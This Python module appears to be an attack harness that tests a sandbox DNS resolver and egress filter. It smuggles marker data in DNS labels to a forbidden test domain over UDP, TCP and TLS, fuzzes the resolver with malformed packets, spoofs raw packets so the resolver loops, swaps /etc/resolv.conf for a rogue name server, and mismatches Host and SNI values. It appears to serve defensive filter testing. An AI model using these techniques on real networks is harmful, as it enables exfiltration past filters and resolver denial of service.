# Names: what questions carry out, and what answers lead to. See attacker.py.

RESOLVER = "198.18.0.53"


def dig(arguments, mark):
    """A question with the attacker's data as a label."""
    return shell(f"dig +time=2 +tries=1 +noall +comments +answer {arguments.replace('MARK', mark)} | grep -o 'status: [A-Z]*'")


def look_up(name, mark):
    try:
        return socket.getaddrinfo(name.replace("MARK", mark), 80)[0][4][0]
    except socket.gaierror:
        return "no such name"


def get(to, mark, port=80, patience=None, **more):
    global PATIENCE
    PATIENCE = patience or 0.8
    return http(to.replace("MARK", mark), port, mark, **{key: value.replace("MARK", mark) for key, value in more.items()})


def get_tls(to, mark, name=None, port=443, host=None):
    name, host = ((one or to).replace("MARK", mark) for one in (name, host))
    return https(to.replace("MARK", mark), port, mark, name=name, host=host)


def curl(arguments, mark):
    return shell(f"curl -sk -o /dev/null -m 10 -w '%{{http_code}} %{{errormsg}}' {arguments.replace('MARK', mark)}")


def dns_message(name, kind=1, flags=0x0100, more=b""):
    labels = name if isinstance(name, bytes) else b"".join(bytes([len(one)]) + one.encode() for one in name.split(".")) + b"\0"
    return struct.pack(">HHHHHH", 0x1234, flags, 1, 0, 0, 0) + labels + struct.pack(">HH", kind, 1) + more


def alive():
    """Whether an ordinary question is answered."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.settimeout(LONGEST)
        datagrams.sendto(dns_message("allowed.test"), (RESOLVER, 53))
        return "alive" if datagrams.recv(512)[7] == 1 else "no answer"


MALFORMED = {
    "a pointer to itself": lambda mark: dns_message(b"\xc0\x0c"),
    "two pointers to each other": lambda mark: dns_message(b"\x01a\xc0\x10\xc0\x0c"),
    "a pointer beyond the end": lambda mark: dns_message(b"\xff\xff"),
    "CR, LF and NUL in a label": lambda mark: dns_message(b"\x05a\r\n\0b" + bytes([len(mark)]) + mark.encode() + b"\x04test\0"),
    "a name of 300 octets": lambda mark: dns_message(b"\x3c" + b"a" * 60 + b"\x3c" + b"b" * 60 + b"\x3c" + b"c" * 60 + b"\x3c" + b"d" * 60 + b"\x3c" + b"e" * 60 + b"\0"),
    "a label without end": lambda mark: dns_message(b"\x3fabc")[:16],
    "an answer": lambda mark: dns_message(f"{mark}.forbidden.test", flags=0x8180),
    "an update": lambda mark: dns_message(f"{mark}.forbidden.test", flags=0x2800),
    "65,535 questions": lambda mark: dns_message("forbidden.test")[:4] + b"\xff\xff" + dns_message("forbidden.test")[6:],
    "nothing at all": lambda mark: b"",
}


def malformed(what, mark):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        for _ in range(20):
            datagrams.sendto(MALFORMED[what](mark), (RESOLVER, 53))
    return alive()


def in_pieces(mark):
    """DNS over TCP, an octet at a time."""
    message = dns_message(f"{mark}.forbidden.test")
    with tcp("9.9.9.9", 53) as connection:
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for octet in struct.pack(">H", len(message)) + message:
            connection.sendall(bytes([octet]))
        connection.settimeout(PATIENCE)
        return f"{len(connection.recv(512))} octets" and alive()


def to_itself(mark):
    """Questions that claim to come from the resolver itself, so that it would answer itself for ever."""
    with open("/proc/net/udp", encoding="ascii") as lines:
        own = [int(line.split()[1].split(":")[1], 16) for line in list(lines)[1:]]
    message = dns_message(f"{mark}.forbidden.test")
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as packets:
        for port in own + [53]:
            for source in (RESOLVER, "127.0.0.1"):
                body = struct.pack(">HHHH", port, 53, 8 + len(message), 0) + message
                head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(body), 1, 0, 64, 17, 0)
                packets.sendto(head + socket.inet_aton(source) + socket.inet_aton(RESOLVER) + body, (RESOLVER, 0))
    return alive()


def with_file(path, text, runs, mark, **arguments):
    """Runs another attack while a file of the workspace's says something else."""
    with open(path, encoding="ascii") as file:
        before = file.read()
    # Docker mounts the file itself: it cannot be replaced, only written.
    with open(path, "w", encoding="ascii") as file:
        file.write(text)
    try:
        return ATTACKS[runs](mark=mark, **arguments)
    finally:
        with open(path, "w", encoding="ascii") as file:
            file.write(before)


def own_name_server(to_address, mark, **arguments):
    """A name server of the attacker's own, which says that the allowed name is elsewhere."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind(("127.0.0.1", 53))
        child = os.fork()
        if child == 0:
            while True:
                message, source = server.recvfrom(512)
                answer = b"\xc0\x0c\0\x01\0\x01\0\0\0\0\0\x04" + socket.inet_aton(to_address)
                kind = message[-3:-2] if message[-4:] == b"\0\x1c\0\x01" else b"\1"
                count = 0 if kind == b"\x1c" else 1
                question = message[12 : message.index(b"\0", 12) + 5]
                server.sendto(message[:2] + struct.pack(">HHHHH", 0x8180, 1, count, 0, 0) + question + answer * count, source)
        try:
            return with_file("/etc/resolv.conf", "nameserver 127.0.0.1\n", "get_tls", mark, **arguments)
        finally:
            os.kill(child, signal.SIGKILL)
            os.waitpid(child, 0)


def address_of(name):
    return socket.gethostbyname(name)


def at_address_of(name, host, mark):
    """Another host's name, said to an allowed name's address."""
    return f"{http(address_of(name), 80, mark, host=host)} / {https(address_of(name), 443, mark, name=host)}"


def dot(to, mark):
    """DNS over TLS."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with tcp(to, 853) as plain, context.wrap_socket(plain) as connection:
        message = dns_message(f"{mark}.forbidden.test")
        connection.sendall(struct.pack(">H", len(message)) + message)
        return word(listen_to(connection))


def datagram(to, port, mark):
    return udp(to, port, mark)
